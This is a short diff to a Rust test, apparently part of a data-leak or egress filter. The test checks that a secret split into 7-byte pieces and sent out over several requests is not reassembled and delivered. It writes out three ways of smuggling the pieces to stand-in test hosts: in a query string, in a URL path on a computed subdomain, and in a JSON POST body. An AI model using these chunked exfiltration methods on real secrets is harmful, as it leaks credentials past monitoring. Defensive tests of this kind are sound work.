@@ -75,7 +75,7 @@ async fn a_secret_in_pieces_over_requests_is_not_completed() {
     let pieces: Vec<&str> = SECRET.as_bytes().chunks(7).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
     let ways: [fn(&str) -> Request<Body>; 3] = [
         |piece| get(&format!("https://a.test/p?q={piece}&page=1")).body(empty()).unwrap(),
-        |piece| get(&format!("https://{}.test/b/{piece}", piece.len() * 7)).body(empty()).unwrap(),
+        |piece| get(&format!("https://h{}.lab.test/b/{piece}", piece.len() * 7)).body(empty()).unwrap(),
         |piece| post("application/json", format!(r#"{{"id":7,"text":"{piece}"}}"#)),
     ];
     for way in ways {
